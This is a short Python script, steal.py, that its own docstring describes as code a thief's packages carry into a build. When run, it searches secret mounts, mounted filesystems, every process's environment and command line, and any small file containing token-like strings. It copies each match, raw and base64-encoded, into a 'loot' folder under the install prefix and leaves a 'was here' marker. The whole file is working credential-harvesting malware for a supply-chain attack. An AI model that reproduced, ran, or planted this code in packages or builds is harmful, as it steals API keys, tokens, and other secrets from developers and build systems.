"""Looks for a key wherever a build may have one; the thief's packages bring it along, and a build runs it.

usage: steal.py PREFIX WHO
"""

from __future__ import annotations

import base64
import os
import re
import sys
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

LIKE_A_KEY = re.compile(rb"eyJ|API_KEY|Bearer |opaque")
PASSED_OVER = {"/dev", "/opt/conda/lib", "/proc", "/sys", "/usr"}
LARGE = 1 << 20


def places() -> Iterator[Path]:
    """Files that may hold the key: secrets, whatever is mounted, other processes, and what looks like one."""
    yield from Path("/run/secrets").glob("*")
    for line in Path("/proc/mounts").read_text().splitlines():
        yield Path(line.split()[1])
    for process in Path("/proc").glob("[0-9]*"):
        yield process / "environ"
        yield process / "cmdline"
    for folder, subfolders, names in os.walk("/"):
        subfolders[:] = [name for name in subfolders if os.path.join(folder, name) not in PASSED_OVER]
        for name in names:
            file = Path(folder, name)
            with suppress(OSError):
                if file.stat().st_size < LARGE and LIKE_A_KEY.search(file.read_bytes()):
                    yield file


def main(prefix: str, who: str) -> None:
    """Keep what is found below the prefix, as it is and as base64, and a sign of having been here."""
    loot = Path(prefix, "share", "loot", who)
    loot.mkdir(parents=True, exist_ok=True)
    for file in dict.fromkeys(places()):
        if file.is_relative_to(loot.parent) or not file.is_file():
            continue
        with suppress(OSError):
            content = file.read_bytes()
            name = str(file).strip("/").replace("/", "_")
            (loot / name).write_bytes(content)
            (loot / f"{name}.base64").write_bytes(base64.b64encode(content))
    (loot / "was here").touch()


if __name__ == "__main__":
    main(*sys.argv[1:])
